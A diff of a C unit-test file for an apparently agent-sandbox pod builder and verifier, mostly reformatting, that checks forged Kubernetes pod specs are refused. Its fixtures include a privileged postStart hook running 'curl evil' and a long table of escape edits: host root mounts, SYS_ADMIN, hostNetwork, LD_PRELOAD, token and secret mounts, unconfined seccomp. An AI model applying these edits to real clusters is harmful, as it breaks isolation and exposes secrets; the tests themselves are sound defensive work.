@@ -9,7 +9,6 @@
 #include "sandbox/config.h"
 #include "sandbox/jcs.h"
 #include "sandbox/podbuild.h"
-#include "sandbox/reconcile.h"
 #include "sandbox/trim.h"
 #include "sandbox/scope.h"
 #include "sandbox/seal.h"
@@ -150,15 +149,15 @@ static void fixture_init(struct fixture *f, const char *spec_json, const char *y
 					       f->owner, f->scope.fingerprint, CLAIMED, f->seal),
 			      0);
 	struct sbx_pod_params p = {
-	    .ns = "team-a",
-	    .pod_name = f->pod_name,
-	    .sandbox_name = "sb-1",
-	    .sandbox_uid = "uid-1",
-	    .spec = f->spec,
-	    .scope = &f->scope,
-	    .claimed_at = CLAIMED,
-	    .seal = f->seal,
-	    .cfg = &f->cfg,
+		.ns = "team-a",
+		.pod_name = f->pod_name,
+		.sandbox_name = "sb-1",
+		.sandbox_uid = "uid-1",
+		.spec = f->spec,
+		.scope = &f->scope,
+		.claimed_at = CLAIMED,
+		.seal = f->seal,
+		.cfg = &f->cfg,
 	};
 	f->pod = sbx_pod_build(&p);
 	CU_ASSERT_PTR_NOT_NULL_FATAL(f->pod);
@@ -183,7 +182,7 @@ static const cJSON *at(const cJSON *v, const char *const *path)
 	return v;
 }
 
-#define AT(v, ...) at((v), (const char *const[]){__VA_ARGS__, NULL})
+#define AT(v, ...) at((v), (const char *const[]){ __VA_ARGS__, NULL })
 
 static const char *str_at(const cJSON *v)
 {
@@ -262,10 +261,10 @@ static void test_pod_pvc(void)
 			       "sandbox-workspaces");
 	const cJSON *vm = AT(c, "volumeMounts");
 	CU_ASSERT_EQUAL_FATAL(cJSON_GetArraySize(vm), 4);
-	static const char *const sub[] = {"alice/workspace", "alice/claude", "alice/codex",
-					  "alice/gemini"};
-	static const char *const path[] = {"/workspace", "/home/agent/.claude",
-					   "/home/agent/.codex", "/home/agent/.gemini"};
+	static const char *const sub[] = { "alice/workspace", "alice/claude", "alice/codex",
+					   "alice/gemini" };
+	static const char *const path[] = { "/workspace", "/home/agent/.claude",
+					    "/home/agent/.codex", "/home/agent/.gemini" };
 	for (int i = 0; i < 4; i++) {
 		const cJSON *m = cJSON_GetArrayItem(vm, i);
 		CU_ASSERT_STRING_EQUAL(str_at(AT(m, "name")), "workspaces");
@@ -290,8 +289,8 @@ static void test_pod_hostpath(void)
 	const cJSON *vm = AT(f.pod, "spec", "containers", "0", "volumeMounts");
 	CU_ASSERT_EQUAL_FATAL(cJSON_GetArraySize(vols), 4);
 	CU_ASSERT_EQUAL_FATAL(cJSON_GetArraySize(vm), 4);
-	static const char *const host[] = {"/srv/ws/team-a/alice/workspace", "/srv/ws/team-a/alice/claude",
-					   "/srv/ws/team-a/alice/codex", "/srv/ws/team-a/alice/gemini"};
+	static const char *const host[] = { "/srv/ws/team-a/alice/workspace", "/srv/ws/team-a/alice/claude",
+					    "/srv/ws/team-a/alice/codex", "/srv/ws/team-a/alice/gemini" };
 	for (int i = 0; i < 4; i++) {
 		char name[16];
 		snprintf(name, sizeof name, "ws-%d", i);
@@ -310,8 +309,8 @@ static void test_pod_hostpath(void)
 
 static void test_pod_no_owner(void)
 {
-	static const char *const cfgs[] = {NULL,
-					   "workspace: {mode: hostPath, hostPathRoot: /srv/ws}\n"};
+	static const char *const cfgs[] = { NULL,
+					    "workspace: {mode: hostPath, hostPathRoot: /srv/ws}\n" };
 	for (size_t k = 0; k < 2; k++) {
 		struct fixture f;
 		fixture_init(&f, ANON_SPEC, cfgs[k]);
@@ -320,8 +319,8 @@ static void test_pod_no_owner(void)
 		const cJSON *vm = AT(f.pod, "spec", "containers", "0", "volumeMounts");
 		CU_ASSERT_EQUAL_FATAL(cJSON_GetArraySize(vols), 4);
 		CU_ASSERT_EQUAL_FATAL(cJSON_GetArraySize(vm), 4);
-		static const char *const path[] = {"/workspace", "/home/agent/.claude",
-						   "/home/agent/.codex", "/home/agent/.gemini"};
+		static const char *const path[] = { "/workspace", "/home/agent/.claude",
+						    "/home/agent/.codex", "/home/agent/.gemini" };
 		for (int i = 0; i < 4; i++) {
 			char name[16];
 			snprintf(name, sizeof name, "ws-%d", i);
@@ -351,23 +350,23 @@ static void test_pod_no_owner(void)
 static void test_pod_refusals(void)
 {
 	struct sbx_config cfg;
-	struct sbx_scope sc = {.digest = DIGEST, .fingerprint = FP};
+	struct sbx_scope sc = { .digest = DIGEST, .fingerprint = FP };
 	sbx_config_init(&cfg);
 	static const char *const bad[] = {
-	    "{\"image\":\"i\",\"workspaceOwner\":\"\"}",
-	    "{\"image\":\"i\",\"workspaceOwner\":\"../x\"}",
-	    "{\"image\":\"i\",\"workspaceOwner\":7}",
-	    "{\"image\":\"\"}",
-	    "{\"command\":[\"sh\"]}",
+		"{\"image\":\"i\",\"workspaceOwner\":\"\"}",
+		"{\"image\":\"i\",\"workspaceOwner\":\"../x\"}",
+		"{\"image\":\"i\",\"workspaceOwner\":7}",
+		"{\"image\":\"\"}",
+		"{\"command\":[\"sh\"]}",
 	};
 	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
 		cJSON *spec = cJSON_Parse(bad[i]);
-		struct sbx_pod_params p = {"ns", POD, "sb", "uid", spec, &sc, CLAIMED, FP, &cfg, NULL};
+		struct sbx_pod_params p = { "ns", POD, "sb", "uid", spec, &sc, CLAIMED, FP, &cfg, NULL };
 		CU_ASSERT_PTR_NULL(sbx_pod_build(&p));
 		cJSON_Delete(spec);
 	}
 	cJSON *spec = cJSON_Parse("{\"image\":\"i\",\"workspaceOwner\":\"alice\"}");
-	struct sbx_pod_params p = {"ns", POD, "sb", "uid", spec, &sc, CLAIMED, FP, &cfg, NULL};
+	struct sbx_pod_params p = { "ns", POD, "sb", "uid", spec, &sc, CLAIMED, FP, &cfg, NULL };
 	cJSON *ok = sbx_pod_build(&p);
 	CU_ASSERT_PTR_NOT_NULL(ok);
 	cJSON_Delete(ok);
@@ -423,7 +422,7 @@ static const struct sbx_seal_keys *keyring(void)
 
 static struct sbx_verify_expect expect_of(const struct fixture *f)
 {
-	struct sbx_verify_expect e = {"team-a", f->owner, &f->scope, keyring(), 1};
+	struct sbx_verify_expect e = { "team-a", f->owner, &f->scope, keyring(), 1 };
 	return e;
 }
 
@@ -629,7 +628,7 @@ static enum sbx_verify payload_after(const struct fixture *f, void (*edit)(cJSON
 {
 	cJSON *live = cJSON_Duplicate(f->pod, 1);
 	edit(cJSON_GetObjectItemCaseSensitive(live, "spec"));
-	struct sbx_certify c = {f->pod, f->spec, &f->cfg};
+	struct sbx_certify c = { f->pod, f->spec, &f->cfg };
 	char why[256];
 	enum sbx_verify v = sbx_pod_payload_verify(live, &c, why, sizeof why);
 	cJSON_Delete(live);
@@ -662,8 +661,7 @@ static void edit_image(cJSON *spec)
 
 static void edit_command(cJSON *spec)
 {
-	cJSON_ReplaceItemInObjectCaseSensitive(container0(spec), "command", cJSON_CreateStringArray(
-										    (const char *[]){ "sh" }, 1));
+	cJSON_ReplaceItemInObjectCaseSensitive(container0(spec), "command", cJSON_CreateStringArray((const char *[]){ "sh" }, 1));
 }
 
 static void edit_claim(cJSON *spec)
@@ -722,12 +720,12 @@ static void test_verify_payload(void)
 	fixture_init(&f, ALICE_SPEC, NULL);
 	CU_ASSERT_EQUAL(payload_after(&f, edit_nothing), SBX_VERIFY_OK);
 	CU_ASSERT_EQUAL(payload_after(&f, edit_apiserver_defaults), SBX_VERIFY_OK);
-	void (*bad[])(cJSON *) = { edit_image,		edit_command,	     edit_claim,	  edit_subpath,
-				   edit_extra_volume,	edit_secret_source,  edit_extra_container, edit_init_container,
-				   edit_env,		edit_runtime_class };
+	void (*bad[])(cJSON *) = { edit_image, edit_command, edit_claim, edit_subpath,
+				   edit_extra_volume, edit_secret_source, edit_extra_container, edit_init_container,
+				   edit_env, edit_runtime_class };
 	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
 		CU_ASSERT_EQUAL(payload_after(&f, bad[i]), SBX_VERIFY_PAYLOAD_MISMATCH);
-	struct sbx_certify c = {f.pod, f.spec, &f.cfg};
+	struct sbx_certify c = { f.pod, f.spec, &f.cfg };
 	CU_ASSERT_EQUAL(sbx_pod_payload_verify(NULL, &c, NULL, 0), SBX_VERIFY_MALFORMED);
 	fixture_release(&f);
 }
@@ -792,7 +790,7 @@ static cJSON *forge_isolation(const cJSON *genuine)
 	cJSON_AddTrueToObject(cJSON_AddObjectToObject(c, "securityContext"), "privileged");
 	cJSON *hook = cJSON_AddObjectToObject(cJSON_AddObjectToObject(c, "lifecycle"), "postStart");
 	cJSON_AddItemToObject(cJSON_AddObjectToObject(hook, "exec"), "command",
-			      cJSON_CreateStringArray((const char *[]){"sh", "-c", "curl evil"}, 3));
+			      cJSON_CreateStringArray((const char *[]){ "sh", "-c", "curl evil" }, 3));
 	return pod;
 }
 
@@ -805,7 +803,7 @@ static void test_verify_forged_isolation(void)
 	/* The identity checks pass (the seal is genuine)... */
 	CU_ASSERT_EQUAL(sbx_pod_verify(forged, &e), SBX_VERIFY_OK);
 	/* ...so the payload check must refuse it. */
-	struct sbx_certify c = {f.pod, f.spec, &f.cfg};
+	struct sbx_certify c = { f.pod, f.spec, &f.cfg };
 	char why[256];
 	CU_ASSERT_EQUAL(sbx_pod_payload_verify(forged, &c, why, sizeof why),
 			SBX_VERIFY_PAYLOAD_MISMATCH);
@@ -880,7 +878,7 @@ static enum sbx_verify certify_after(const struct fixture *f, const struct sbx_c
 	cJSON *live = cJSON_Duplicate(f->pod, 1);
 	for (; edits && edits->path; edits++)
 		put(live, edits->path, edits->val);
-	struct sbx_certify c = {f->pod, f->spec, cfg ? cfg : &f->cfg};
+	struct sbx_certify c = { f->pod, f->spec, cfg ? cfg : &f->cfg };
 	enum sbx_verify v = sbx_pod_payload_verify(live, &c, why, whylen);
 	cJSON_Delete(live);
 	return v;
@@ -892,82 +890,82 @@ static enum sbx_verify certify_after(const struct fixture *f, const struct sbx_c
 static void test_verify_each_isolation_field(void)
 {
 	static const struct edit forged[][3] = {
-	    {{C0 "securityContext/privileged", "true"}},
-	    {{C0 "securityContext/allowPrivilegeEscalation", "true"}},
-	    {{C0 "securityContext/allowPrivilegeEscalation", NULL}},
-	    {{C0 "securityContext/capabilities/add", "[\"SYS_ADMIN\"]"}},
-	    {{C0 "securityContext/capabilities/drop", "[\"NET_RAW\"]"}},
-	    {{C0 "securityContext/runAsUser", "0"}},
-	    {{C0 "securityContext/runAsNonRoot", "false"}},
-	    {{C0 "securityContext/seccompProfile", "{\"type\":\"Unconfined\"}"}},
-	    {{C0 "securityContext/procMount", "\"Unmasked\""}},
-	    {{C0 "securityContext/seLinuxOptions", "{\"type\":\"spc_t\"}"}},
-	    {{C0 "securityContext", NULL}},
-	    {{"spec/securityContext/runAsUser", "0"}},
-	    {{"spec/securityContext/runAsNonRoot", NULL}},
-	    {{"spec/securityContext/seccompProfile/type", "\"Unconfined\""}},
-	    {{"spec/securityContext/sysctls", "[{\"name\":\"kernel.shm_rmid_forced\",\"value\":\"0\"}]"}},
-	    {{"spec/securityContext/supplementalGroups", "[0]"}},
-	    {{"spec/securityContext", NULL}},
-	    {{"spec/hostNetwork", "true"}},
-	    {{"spec/hostPID", "true"}},
-	    {{"spec/hostIPC", "true"}},
-	    {{"spec/shareProcessNamespace", "true"}},
-	    {{"spec/hostUsers", "true"}},
-	    {{"spec/hostAliases", "[{\"ip\":\"10.0.0.1\",\"hostnames\":[\"registry\"]}]"}},
-	    {{"spec/automountServiceAccountToken", "true"}},
-	    {{"spec/automountServiceAccountToken", NULL}},
-	    {{"spec/serviceAccountName", "\"admin\""}},
-	    {{"spec/enableServiceLinks", "true"}},
-	    {{"spec/restartPolicy", "\"Always\""}},
-	    {{"spec/dnsPolicy", "\"None\""}},
-	    {{"spec/dnsConfig", "{\"nameservers\":[\"6.6.6.6\"]}"}},
-	    {{"spec/schedulerName", "\"evil-scheduler\""}},
-	    {{"spec/affinity", "{\"nodeAffinity\":{}}"}},
-	    {{"spec/runtimeClassName", NULL}},
-	    {{"spec/runtimeClassName", "\"runc\""}},
-	    {{"spec/runtimeClassName", "\"kata\""}}, /* the spec names gvisor */
-	    {{C0 "lifecycle", "{\"postStart\":{\"exec\":{\"command\":[\"sh\"]}}}"}},
-	    {{C0 "livenessProbe", "{\"exec\":{\"command\":[\"sh\"]}}"}},
-	    {{C0 "readinessProbe", "{\"exec\":{\"command\":[\"sh\"]}}"}},
-	    {{C0 "startupProbe", "{\"exec\":{\"command\":[\"sh\"]}}"}},
-	    {{C0 "ports", "[{\"containerPort\":22,\"hostPort\":22}]"}},
-	    {{C0 "envFrom", "[{\"secretRef\":{\"name\":\"db\"}}]"}},
-	    {{C0 "env", "+{\"name\":\"LD_PRELOAD\",\"value\":\"/x.so\"}"}},
-	    {{C0 "env/0", "{\"name\":\"A\",\"valueFrom\":{\"secretKeyRef\":{\"name\":\"s\",\"key\":\"k\"}}}"}},
-	    {{C0 "workingDir", "\"/\""}},
-	    {{C0 "tty", "true"}},
-	    {{C0 "image", "\"evil:latest\""}},
-	    {{C0 "image", "\"registry.local/agent@sha256:0000000000000000000000000000000000000000000000000000000000000000\""}},
-	    {{C0 "command", "[\"sh\"]"}},
-	    {{C0 "args", NULL}},
-	    {{C0 "resources/limits/cpu", "\"64\""}},
-	    {{C0 "resources/requests/nvidia.com~gpu", "\"1\""}},
-	    {{C0 "volumeDevices", "[{\"name\":\"workspaces\",\"devicePath\":\"/dev/x\"}]"}},
-	    {{C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/all\"}"}},
-	    {{C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/bob\",\"subPath\":\"bob/workspace\"}"}},
-	    {{C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/a\",\"subPath\":\"alice\"}"}},
-	    {{C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/a\",\"subPath\":\"alice/x/y\"}"}},
-	    {{C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/a\",\"subPathExpr\":\"alice/$(X)\"}"}},
-	    {{C0 "volumeMounts/0/mountPropagation", "\"Bidirectional\""}},
-	    {{"spec/volumes/0/persistentVolumeClaim/claimName", "\"other-claim\""}},
-	    {{"spec/volumes", "+{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}"},
-	     {C0 "volumeMounts", "+{\"name\":\"host\",\"mountPath\":\"/host\"}"}},
-	    {{"spec/volumes", "+{\"name\":\"tok\",\"projected\":{\"sources\":[{\"serviceAccountToken\":{\"path\":\"t\"}}]}}"},
-	     {C0 "volumeMounts", "+{\"name\":\"tok\",\"mountPath\":\"/var/run/secrets/x\"}"}},
-	    {{"spec/volumes", "+{\"name\":\"unused\",\"emptyDir\":{}}"}},
-	    {{"spec/volumes/0/secret", "{\"secretName\":\"x\"}"}},
-	    {{"spec/containers", "+{\"name\":\"spy\",\"image\":\"evil\"}"}},
-	    {{"spec/containers", "+{\"name\":\"sandbox\",\"image\":\"registry.local/agent:1.0\"}"}},
-	    {{"spec/initContainers", "+{\"name\":\"init\",\"image\":\"evil\"}"}},
-	    {{"spec/ephemeralContainers", "+{\"name\":\"debug\",\"image\":\"busybox\"}"}},
-	    {{"spec/nodeName", "\"n1\""}, {"spec/hostNetwork", "true"}},
-	    {{"spec/activeDeadlineSeconds", "1"}},
-	    {{"spec/someFutureField", "{}"}},
-	    {{C0 "someFutureField", "{}"}},
-	    {{"metadata/labels/role", "\"admin\""}},
-	    {{"metadata/annotations/sandbox.dev~extra", "\"x\""}},
-	    {{"metadata/annotations/container.apparmor.security.beta.kubernetes.io~sandbox", "\"unconfined\""}},
+		{ { C0 "securityContext/privileged", "true" } },
+		{ { C0 "securityContext/allowPrivilegeEscalation", "true" } },
+		{ { C0 "securityContext/allowPrivilegeEscalation", NULL } },
+		{ { C0 "securityContext/capabilities/add", "[\"SYS_ADMIN\"]" } },
+		{ { C0 "securityContext/capabilities/drop", "[\"NET_RAW\"]" } },
+		{ { C0 "securityContext/runAsUser", "0" } },
+		{ { C0 "securityContext/runAsNonRoot", "false" } },
+		{ { C0 "securityContext/seccompProfile", "{\"type\":\"Unconfined\"}" } },
+		{ { C0 "securityContext/procMount", "\"Unmasked\"" } },
+		{ { C0 "securityContext/seLinuxOptions", "{\"type\":\"spc_t\"}" } },
+		{ { C0 "securityContext", NULL } },
+		{ { "spec/securityContext/runAsUser", "0" } },
+		{ { "spec/securityContext/runAsNonRoot", NULL } },
+		{ { "spec/securityContext/seccompProfile/type", "\"Unconfined\"" } },
+		{ { "spec/securityContext/sysctls", "[{\"name\":\"kernel.shm_rmid_forced\",\"value\":\"0\"}]" } },
+		{ { "spec/securityContext/supplementalGroups", "[0]" } },
+		{ { "spec/securityContext", NULL } },
+		{ { "spec/hostNetwork", "true" } },
+		{ { "spec/hostPID", "true" } },
+		{ { "spec/hostIPC", "true" } },
+		{ { "spec/shareProcessNamespace", "true" } },
+		{ { "spec/hostUsers", "true" } },
+		{ { "spec/hostAliases", "[{\"ip\":\"10.0.0.1\",\"hostnames\":[\"registry\"]}]" } },
+		{ { "spec/automountServiceAccountToken", "true" } },
+		{ { "spec/automountServiceAccountToken", NULL } },
+		{ { "spec/serviceAccountName", "\"admin\"" } },
+		{ { "spec/enableServiceLinks", "true" } },
+		{ { "spec/restartPolicy", "\"Always\"" } },
+		{ { "spec/dnsPolicy", "\"None\"" } },
+		{ { "spec/dnsConfig", "{\"nameservers\":[\"6.6.6.6\"]}" } },
+		{ { "spec/schedulerName", "\"evil-scheduler\"" } },
+		{ { "spec/affinity", "{\"nodeAffinity\":{}}" } },
+		{ { "spec/runtimeClassName", NULL } },
+		{ { "spec/runtimeClassName", "\"runc\"" } },
+		{ { "spec/runtimeClassName", "\"kata\"" } }, /* the spec names gvisor */
+		{ { C0 "lifecycle", "{\"postStart\":{\"exec\":{\"command\":[\"sh\"]}}}" } },
+		{ { C0 "livenessProbe", "{\"exec\":{\"command\":[\"sh\"]}}" } },
+		{ { C0 "readinessProbe", "{\"exec\":{\"command\":[\"sh\"]}}" } },
+		{ { C0 "startupProbe", "{\"exec\":{\"command\":[\"sh\"]}}" } },
+		{ { C0 "ports", "[{\"containerPort\":22,\"hostPort\":22}]" } },
+		{ { C0 "envFrom", "[{\"secretRef\":{\"name\":\"db\"}}]" } },
+		{ { C0 "env", "+{\"name\":\"LD_PRELOAD\",\"value\":\"/x.so\"}" } },
+		{ { C0 "env/0", "{\"name\":\"A\",\"valueFrom\":{\"secretKeyRef\":{\"name\":\"s\",\"key\":\"k\"}}}" } },
+		{ { C0 "workingDir", "\"/\"" } },
+		{ { C0 "tty", "true" } },
+		{ { C0 "image", "\"evil:latest\"" } },
+		{ { C0 "image", "\"registry.local/agent@sha256:0000000000000000000000000000000000000000000000000000000000000000\"" } },
+		{ { C0 "command", "[\"sh\"]" } },
+		{ { C0 "args", NULL } },
+		{ { C0 "resources/limits/cpu", "\"64\"" } },
+		{ { C0 "resources/requests/nvidia.com~gpu", "\"1\"" } },
+		{ { C0 "volumeDevices", "[{\"name\":\"workspaces\",\"devicePath\":\"/dev/x\"}]" } },
+		{ { C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/all\"}" } },
+		{ { C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/bob\",\"subPath\":\"bob/workspace\"}" } },
+		{ { C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/a\",\"subPath\":\"alice\"}" } },
+		{ { C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/a\",\"subPath\":\"alice/x/y\"}" } },
+		{ { C0 "volumeMounts", "+{\"name\":\"workspaces\",\"mountPath\":\"/a\",\"subPathExpr\":\"alice/$(X)\"}" } },
+		{ { C0 "volumeMounts/0/mountPropagation", "\"Bidirectional\"" } },
+		{ { "spec/volumes/0/persistentVolumeClaim/claimName", "\"other-claim\"" } },
+		{ { "spec/volumes", "+{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}" },
+		  { C0 "volumeMounts", "+{\"name\":\"host\",\"mountPath\":\"/host\"}" } },
+		{ { "spec/volumes", "+{\"name\":\"tok\",\"projected\":{\"sources\":[{\"serviceAccountToken\":{\"path\":\"t\"}}]}}" },
+		  { C0 "volumeMounts", "+{\"name\":\"tok\",\"mountPath\":\"/var/run/secrets/x\"}" } },
+		{ { "spec/volumes", "+{\"name\":\"unused\",\"emptyDir\":{}}" } },
+		{ { "spec/volumes/0/secret", "{\"secretName\":\"x\"}" } },
+		{ { "spec/containers", "+{\"name\":\"spy\",\"image\":\"evil\"}" } },
+		{ { "spec/containers", "+{\"name\":\"sandbox\",\"image\":\"registry.local/agent:1.0\"}" } },
+		{ { "spec/initContainers", "+{\"name\":\"init\",\"image\":\"evil\"}" } },
+		{ { "spec/ephemeralContainers", "+{\"name\":\"debug\",\"image\":\"busybox\"}" } },
+		{ { "spec/nodeName", "\"n1\"" }, { "spec/hostNetwork", "true" } },
+		{ { "spec/activeDeadlineSeconds", "1" } },
+		{ { "spec/someFutureField", "{}" } },
+		{ { C0 "someFutureField", "{}" } },
+		{ { "metadata/labels/role", "\"admin\"" } },
+		{ { "metadata/annotations/sandbox.dev~extra", "\"x\"" } },
+		{ { "metadata/annotations/container.apparmor.security.beta.kubernetes.io~sandbox", "\"unconfined\"" } },
 	};
 	struct fixture f;
 	fixture_init(&f, ALICE_SPEC, NULL);
@@ -976,7 +974,7 @@ static void test_verify_each_isolation_field(void)
 		cJSON *live = cJSON_Duplicate(f.pod, 1);
 		for (int k = 0; k < 2 && forged[i][k].path; k++)
 			put(live, forged[i][k].path, forged[i][k].val);
-		struct sbx_certify c = {f.pod, f.spec, &f.cfg};
+		struct sbx_certify c = { f.pod, f.spec, &f.cfg };
 		struct sbx_verify_expect ex = expect_of(&f);
 		CU_ASSERT_EQUAL(sbx_pod_verify(live, &ex), SBX_VERIFY_OK); /* the seal is genuine */
 		enum sbx_verify got = sbx_pod_payload_verify(live, &c, why, sizeof why);
@@ -998,29 +996,29 @@ static void test_verify_each_isolation_field(void)
 static void test_verify_apiserver_defaults(void)
 {
 	static const struct edit defaults[] = {
-	    {"spec/dnsPolicy", "\"ClusterFirst\""},
-	    {"spec/schedulerName", "\"default-scheduler\""},
-	    {"spec/serviceAccountName", "\"default\""},
-	    {"spec/serviceAccount", "\"default\""},
-	    {"spec/terminationGracePeriodSeconds", "30"},
-	    {"spec/priority", "0"},
-	    {"spec/preemptionPolicy", "\"PreemptLowerPriority\""},
-	    {"spec/nodeName", "\"kwok-node-0\""},
-	    {"spec/overhead", "{\"cpu\":\"250m\"}"},
-	    {"spec/tolerations", "+{\"key\":\"node.kubernetes.io/not-ready\",\"operator\":\"Exists\","
-				 "\"effect\":\"NoExecute\",\"tolerationSeconds\":300}"},
-	    {"spec/tolerations", "+{\"key\":\"node.kubernetes.io/unreachable\",\"operator\":\"Exists\","
-				 "\"effect\":\"NoExecute\",\"tolerationSeconds\":300}"},
-	    {C0 "terminationMessagePath", "\"/dev/termination-log\""},
-	    {C0 "terminationMessagePolicy", "\"File\""},
-	    {C0 "imagePullPolicy", "\"IfNotPresent\""},
-	    {C0 "resizePolicy", "[{\"resourceName\":\"cpu\",\"restartPolicy\":\"NotRequired\"}]"},
-	    {C0 "resources/limits/cpu", "\"2000m\""},     /* the same quantity, spelled otherwise */
-	    {C0 "resources/requests/memory", "\"4096Mi\""},
-	    {"spec/volumes/0/persistentVolumeClaim/readOnly", "false"},
-	    {"metadata/uid", "\"u-1\""},
-	    {"metadata/annotations/kubectl.kubernetes.io~restartedAt", "\"x\""},
-	    {NULL, NULL},
+		{ "spec/dnsPolicy", "\"ClusterFirst\"" },
+		{ "spec/schedulerName", "\"default-scheduler\"" },
+		{ "spec/serviceAccountName", "\"default\"" },
+		{ "spec/serviceAccount", "\"default\"" },
+		{ "spec/terminationGracePeriodSeconds", "30" },
+		{ "spec/priority", "0" },
+		{ "spec/preemptionPolicy", "\"PreemptLowerPriority\"" },
+		{ "spec/nodeName", "\"kwok-node-0\"" },
+		{ "spec/overhead", "{\"cpu\":\"250m\"}" },
+		{ "spec/tolerations", "+{\"key\":\"node.kubernetes.io/not-ready\",\"operator\":\"Exists\","
+				      "\"effect\":\"NoExecute\",\"tolerationSeconds\":300}" },
+		{ "spec/tolerations", "+{\"key\":\"node.kubernetes.io/unreachable\",\"operator\":\"Exists\","
+				      "\"effect\":\"NoExecute\",\"tolerationSeconds\":300}" },
+		{ C0 "terminationMessagePath", "\"/dev/termination-log\"" },
+		{ C0 "terminationMessagePolicy", "\"File\"" },
+		{ C0 "imagePullPolicy", "\"IfNotPresent\"" },
+		{ C0 "resizePolicy", "[{\"resourceName\":\"cpu\",\"restartPolicy\":\"NotRequired\"}]" },
+		{ C0 "resources/limits/cpu", "\"2000m\"" }, /* the same quantity, spelled otherwise */
+		{ C0 "resources/requests/memory", "\"4096Mi\"" },
+		{ "spec/volumes/0/persistentVolumeClaim/readOnly", "false" },
+		{ "metadata/uid", "\"u-1\"" },
+		{ "metadata/annotations/kubectl.kubernetes.io~restartedAt", "\"x\"" },
+		{ NULL, NULL },
 	};
 	struct fixture f;
 	char why[256] = "";
@@ -1031,14 +1029,14 @@ static void test_verify_apiserver_defaults(void)
 	fixture_release(&f);
 	/* A limit without a request: the apiserver copies the limit. */
 	static const struct edit copied[] = {
-	    {C0 "resources/requests", "{\"cpu\":\"1\",\"memory\":\"1Gi\"}"},
-	    {NULL, NULL},
+		{ C0 "resources/requests", "{\"cpu\":\"1\",\"memory\":\"1Gi\"}" },
+		{ NULL, NULL },
 	};
 	fixture_init(&f, ANON_SPEC, NULL);
 	CU_ASSERT_EQUAL(certify_after(&f, NULL, copied, why, sizeof why), SBX_VERIFY_OK);
 	static const struct edit other_request[] = {
-	    {C0 "resources/requests", "{\"cpu\":\"100m\"}"},
-	    {NULL, NULL},
+		{ C0 "resources/requests", "{\"cpu\":\"100m\"}" },
+		{ NULL, NULL },
 	};
 	CU_ASSERT_EQUAL(certify_after(&f, NULL, other_request, why, sizeof why),
 			SBX_VERIFY_PAYLOAD_MISMATCH);
@@ -1060,14 +1058,14 @@ static const char MUTATIONS_YAML[] =
 static void test_verify_declared_mutations(void)
 {
 	static const struct edit mutated[] = {
-	    {C0 "image", "\"registry.local/agent:1.0@" DIGEST64 "\""},
-	    {"spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
-				"\"args\":[\"serve\"],\"ports\":[{\"containerPort\":15000}],"
-				"\"securityContext\":{\"allowPrivilegeEscalation\":false},"
-				"\"volumeMounts\":[{\"name\":\"sidecar-data\",\"mountPath\":\"/data\"}]}"},
-	    {"spec/volumes", "+{\"name\":\"sidecar-data\",\"emptyDir\":{}}"},
-	    {"metadata/labels/sidecar.example~injected", "\"true\""},
-	    {NULL, NULL},
+		{ C0 "image", "\"registry.local/agent:1.0@" DIGEST64 "\"" },
+		{ "spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
+				     "\"args\":[\"serve\"],\"ports\":[{\"containerPort\":15000}],"
+				     "\"securityContext\":{\"allowPrivilegeEscalation\":false},"
+				     "\"volumeMounts\":[{\"name\":\"sidecar-data\",\"mountPath\":\"/data\"}]}" },
+		{ "spec/volumes", "+{\"name\":\"sidecar-data\",\"emptyDir\":{}}" },
+		{ "metadata/labels/sidecar.example~injected", "\"true\"" },
+		{ NULL, NULL },
 	};
 	struct fixture f, strict;
 	char why[256] = "";
@@ -1076,31 +1074,31 @@ static void test_verify_declared_mutations(void)
 	cJSON *live = cJSON_Duplicate(f.pod, 1);
 	for (const struct edit *x = mutated; x->path; x++)
 		put(live, x->path, x->val);
-	struct sbx_certify c = {f.pod, f.spec, &f.cfg};
+	struct sbx_certify c = { f.pod, f.spec, &f.cfg };
 	CU_ASSERT_EQUAL(sbx_pod_payload_verify(live, &c, why, sizeof why), SBX_VERIFY_OK);
 	if (why[0])
 		fprintf(stderr, "\n  refused: %s\n", why);
 	/* The same pod under a configuration that declares nothing. */
-	struct sbx_certify cs = {strict.pod, strict.spec, &strict.cfg};
+	struct sbx_certify cs = { strict.pod, strict.spec, &strict.cfg };
 	CU_ASSERT_EQUAL(sbx_pod_payload_verify(live, &cs, why, sizeof why), SBX_VERIFY_PAYLOAD_MISMATCH);
 	cJSON_Delete(live);
 
 	/* Each step beyond the declaration is refused. */
 	static const struct edit beyond[][3] = {
-	    {{C0 "image", "\"registry.local/other@" DIGEST64 "\""}},
-	    {{C0 "image", "\"registry.local/agent:2.0@" DIGEST64 "\""}},
-	    {{C0 "image", "\"registry.local/agent:1.0@sha256:abc\""}},
-	    {{"spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"evil/sidecar:2\"}"}},
-	    {{"spec/containers", "+{\"name\":\"other\",\"image\":\"registry.local/sidecar:2\"}"}},
-	    {{"spec/initContainers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\"}"}},
-	    {{"spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
-				 "\"securityContext\":{\"privileged\":true}}"}},
-	    {{"spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
-				 "\"volumeMounts\":[{\"name\":\"workspaces\",\"mountPath\":\"/w\",\"subPath\":\"alice/workspace\"}]}"}},
-	    {{"spec/containers", "+{\"name\":\"sbx-sidecar\",\"image\":\"registry.local/sidecar:2\","
-				 "\"volumeMounts\":[{\"name\":\"sidecar-data\",\"mountPath\":\"/d\"}]}"},
